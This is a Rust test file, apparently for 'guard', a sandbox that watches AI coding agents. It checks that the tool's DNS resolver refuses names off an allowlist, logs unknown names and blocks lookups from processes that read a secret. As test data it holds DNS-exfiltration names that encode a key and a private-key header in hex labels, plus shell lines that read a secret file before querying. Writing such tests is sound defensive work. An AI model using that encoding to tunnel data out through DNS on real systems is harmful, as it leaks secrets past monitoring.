//! guard's resolver (issue 40, docs/policy.md "[dns]"): a session's DNS, sent to any
//! address at port 53, goes to guard's resolver, which answers only the names the
//! policy allows. The tests run a real DNS server, Debian's dnsmasq, answering its
//! own zone only and forwarding nowhere, with its query log: a name guard refused
//! never appears there. The session asks with dig (UDP and TCP, which checks that
//! an answer comes from the server it asked) and with glibc (`getent`).

use std::ffi::OsStr;
use std::io::Read as _;
use std::net::{Ipv4Addr, TcpListener};
use std::path::Path;
use std::process::Command;

use guard_tests::dnsmasq::{Dnsmasq, NsResolvConf};
use guard_tests::{Daemon, Enforcing, Event, EventsTo, NetNs, dump, fake_agent_exe};

const ZONE: &str = "guard-test.example";
/// A name the policy allows.
const ALLOWED: &str = "allowed.guard-test.example";
/// Data in DNS labels: hex under the anomaly thresholds (short, low entropy).
const EXFIL: &str = "6b65793d31.7365637265740a.exfil.guard-test.example";
/// A long one, cut in events to its domain.
const EXFIL_LONG: &str =
    "2d2d2d2d2d424547494e204f50454e53.53482050524956415445204b4559.2d2d2d2d2d0a.guard-test.example";

/// dnsmasq answering every name of [`ZONE`] (and registry.npmjs.org) with 127.0.0.1,
/// listening on `addr`:53.
fn dnsmasq(cmd: Command, addr: Ipv4Addr, dir: &Path) -> Dnsmasq {
    Dnsmasq::start(
        cmd,
        addr,
        &[ZONE, "registry.npmjs.org"],
        Ipv4Addr::LOCALHOST,
        dir,
    )
}

/// A loopback address of its own for the test's DNS server (port 53 on it).
fn server_addr() -> Ipv4Addr {
    let mut b = [0u8; 2];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut f| f.read_exact(&mut b))
        .expect("urandom");
    Ipv4Addr::new(127, 77, b[0], b[1].max(2))
}

fn violations<'a>(events: &'a [&'a Event], rule: &str) -> Vec<&'a Event> {
    events
        .iter()
        .copied()
        .filter(|e| e.str("rule") == Some(rule))
        .collect()
}

const POLICY: &str = r#"
[dns]
allow = ["allowed.guard-test.example"]

[[rule]]
id = "egress"
kind = "network"
allow = ["127.0.0.0/8"]
action = "deny"

[[rule]]
id = "secret"
kind = "file"
access = ["read"]
paths = ["{dir}/secret"]
secret = true
action = "log"

[taint]
egress = "deny"
allow = ["127.0.0.0/8"]
"#;

/// Under an allowlist, a name it does not hold never reaches the server, over UDP
/// or TCP; allowed names resolve (dig accepts the answers as its server's) and their
/// address connects; a tainted process may resolve nothing off `[taint] allow`.
#[test]
fn names_off_the_allowlist_never_leave_and_allowed_ones_resolve() {
    let server = server_addr();
    let mut t = Enforcing::start(fake_agent_exe!(), "guard-e2e-resolver", POLICY, |d| {
        std::fs::write(d.join("secret"), "s3cret\n").expect("write the secret");
    });
    let dns = dnsmasq(Command::new("dnsmasq"), server, t.dir.path());
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("listen");
    let port = listener.local_addr().expect("addr").port();

    let dig = format!("dig +tries=1 +time=3 @{server}");
    let script = format!(
        "{dig} +short {ALLOWED} > {{dir}}/udp.out; \
         {dig} +tcp +short {ALLOWED} > {{dir}}/tcp.out; \
         {dig} {EXFIL} > {{dir}}/exfil-udp.out; \
         {dig} +tcp {EXFIL_LONG} > {{dir}}/exfil-tcp.out; \
         exec 3<>/dev/tcp/$(cat {{dir}}/udp.out)/{port} && echo connected > {{dir}}/connect.out; \
         read s < {{dir}}/secret; {dig} +short {ALLOWED} > {{dir}}/tainted.out; true"
    );
    let (run, events) = t.run("bash", &["-c", &script.replace("{dir}", &t.path(""))]);
    run.assert_success();
    let out = |name: &str| std::fs::read_to_string(t.dir.join(name)).unwrap_or_default();

    // Allowed: answered over UDP and TCP, as from the server asked (dig drops
    // answers from another address), and the address it gave connects.
    assert_eq!(out("udp.out").trim(), "127.0.0.1", "{}", dump(&events));
    assert_eq!(out("tcp.out").trim(), "127.0.0.1", "{}", dump(&events));
    assert_eq!(out("connect.out").trim(), "connected", "{}", dump(&events));
    // Refused: NXDOMAIN from guard's resolver, and the server never saw them.
    for name in ["exfil-udp.out", "exfil-tcp.out"] {
        assert!(
            out(name).contains("status: NXDOMAIN"),
            "{name}: {}",
            out(name)
        );
    }
    // The tainted shell's dig: off [taint] allow (which holds no names).
    assert_eq!(out("tainted.out").trim(), "", "{}", out("tainted.out"));
    let queries = dns.queries();
    assert_eq!(
        queries.matches(&format!("query[A] {ALLOWED}")).count(),
        2,
        "{queries}"
    );
    for label in ["6b65793d31", "2d2d2d2d2d424547"] {
        assert!(
            !queries.contains(label),
            "{label} reached the server:\n{queries}"
        );
    }

    let mine = Enforcing::of_run(&events, &run);
    // Each refusal is a violation of dns.names, denied; the long name cut.
    let names = violations(&mine, "dns.names");
    assert_eq!(names.len(), 2, "{}", dump(&events));
    for v in &names {
        assert_eq!(v.kind(), "dns");
        assert_eq!(v.str("outcome"), Some("denied"), "{v}");
        assert_eq!(v.bool("via_resolver"), Some(true), "{v}");
        assert_eq!(v.str("server"), Some(server.to_string().as_str()), "{v}");
    }
    assert!(names.iter().any(|v| v.str("name") == Some(EXFIL)));
    let cut = names
        .iter()
        .find_map(|v| v.str("name").filter(|n| n.starts_with('…')))
        .unwrap_or_else(|| panic!("no cut name\n{}", dump(&events)));
    assert!(cut.ends_with(".guard-test.example"), "{cut}");
    assert!(!cut.contains("2d2d2d2d2d4245"), "{cut}");
    // The tainted process's query: taint.egress, denied.
    let tainted = violations(&mine, "taint.egress");
    assert!(
        tainted
            .iter()
            .any(|v| v.kind() == "dns" && v.str("outcome") == Some("denied")),
        "{}",
        dump(&events)
    );
    // The connects and sends to the server went to guard's resolver.
    assert!(
        mine.iter().any(|e| matches!(e.kind(), "connect" | "send")
            && e.int("port") == Some(53)
            && e.bool("via_resolver") == Some(true)),
        "{}",
        dump(&events)
    );
    drop(listener);
    t.finish();
}

/// With `unknown = "log"` (the workstation policy's), every name is answered and
/// each one the policy does not name is a logged violation.
#[test]
fn unknown_names_are_answered_and_logged_where_the_policy_says_so() {
    let server = server_addr();
    let rules = r#"
[dns]
unknown = "log"
allow = ["allowed.guard-test.example"]

[[rule]]
id = "egress"
kind = "network"
allow = ["127.0.0.0/8"]
action = "deny"
"#;
    let mut t = Enforcing::start(fake_agent_exe!(), "guard-e2e-resolver-log", rules, |_| {});
    let dns = dnsmasq(Command::new("dnsmasq"), server, t.dir.path());
    let dig = format!("dig +tries=1 +time=3 +short @{server}");
    let (run, events) = t.sh(&format!(
        "{dig} {ALLOWED} > {{dir}}/a.out; {dig} {EXFIL} > {{dir}}/b.out"
    ));
    run.assert_success();
    let out = |name: &str| std::fs::read_to_string(t.dir.join(name)).unwrap_or_default();
    assert_eq!(out("a.out").trim(), "127.0.0.1");
    assert_eq!(out("b.out").trim(), "127.0.0.1");
    assert!(dns.queries().contains(EXFIL), "{}", dns.queries());
    let mine = Enforcing::of_run(&events, &run);
    let logged = violations(&mine, "dns.names");
    assert_eq!(logged.len(), 1, "{}", dump(&events));
    assert_eq!(logged[0].str("name"), Some(EXFIL));
    assert_eq!(
        (logged[0].str("action"), logged[0].str("outcome")),
        (Some("log"), Some("logged"))
    );
    t.finish();
}

/// In a network namespace of its own (a container's, joined to the host by a
/// veth), under the built-in `ci` policy: a session's DNS goes to a resolver guard
/// starts there, which forwards to the namespace's own server (the one its
/// resolv.conf names; the policy does not let the session reach it itself). A
/// package registry's name resolves and its address serves what a build fetches;
/// a name the policy does not hold never reaches the server.
#[test]
fn a_build_in_a_namespace_of_its_own_resolves_its_registry_under_the_ci_policy() {
    let ns = NetNs::new();
    let veth = ns.veth();
    let _resolv = NsResolvConf::new(ns.name(), veth.peer);
    let dir = guard_tests::TempDir::new("guard-e2e-resolver-ci");
    let agent = guard_tests::FakeAgent::install(fake_agent_exe!());
    // The built-in ci policy, for this test's agent.
    let ci = guard_tests::guard(&[OsStr::new("policy"), OsStr::new("show"), OsStr::new("ci")]);
    let policy = dir.join("ci.toml");
    guard_tests::write_policy(
        &policy,
        &ci.replace(
            r#"names = ["codex", "claude", "gemini", "copilot"]"#,
            &format!(r#"names = ["{}"]"#, agent.name()),
        ),
    );
    let args = [OsStr::new("--policy"), policy.as_os_str()];
    let mut daemon = Daemon::start_with_args(&[], EventsTo::File, &args);
    let dns = dnsmasq(ns.command("dnsmasq"), veth.peer, dir.path());
    // The registry, in the namespace on its loopback (the name resolves there).
    let registry = ns.enter(|| TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("listen"));
    let port = registry.local_addr().expect("addr").port();
    let serve = std::thread::spawn(move || {
        use std::io::Write as _;
        let (mut c, _) = registry.accept().expect("accept");
        let mut req = [0u8; 1024];
        let _ = std::io::Read::read(&mut c, &mut req);
        let _ = c.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 9\r\n\r\npackage-1");
    });
    // The resolver starts in the namespace when the daemon reads the first exec
    // there: until then the ci policy refuses the namespace's DNS, so the first
    // lookup is retried until it answers (bounded by `timeout`).
    let d = dir.path().display();
    let script = format!(
        "timeout 20 sh -c 'until getent hosts registry.npmjs.org > {d}/a.out; do :; done'; \
         curl -sS http://registry.npmjs.org:{port}/package > {d}/fetched; \
         getent hosts {EXFIL} > {d}/b.out; echo $? > {d}/b.code"
    );
    let run = agent.run(&["run", "ip", "netns", "exec", ns.name(), "sh", "-c", &script]);
    let events = daemon.wait_for(
        "the end of the session",
        guard_tests::session_ended(run.pid),
    );
    run.assert_success();
    serve.join().expect("the registry served");
    let out = |name: &str| std::fs::read_to_string(dir.join(name)).unwrap_or_default();
    assert!(out("a.out").starts_with("127.0.0.1"), "{}", dump(&events));
    assert_eq!(out("fetched"), "package-1", "{}", dump(&events));
    assert_eq!(out("b.out"), "");
    assert_eq!(out("b.code").trim(), "2", "getent: not found");
    let queries = dns.queries();
    assert!(queries.contains("registry.npmjs.org"), "{queries}");
    assert!(!queries.contains("6b65793d31"), "{queries}");
    let session = guard_tests::session_of(&events, run.pid);
    let mine: Vec<&Event> = events
        .iter()
        .filter(|e| e.session() == Some(session.as_str()))
        .collect();
    assert!(
        violations(&mine, "dns.names")
            .iter()
            .any(|v| v.kind() == "dns"
                && v.str("name") == Some(EXFIL)
                && v.str("outcome") == Some("denied")),
        "{}",
        dump(&events)
    );
    daemon.stop_ok();
}
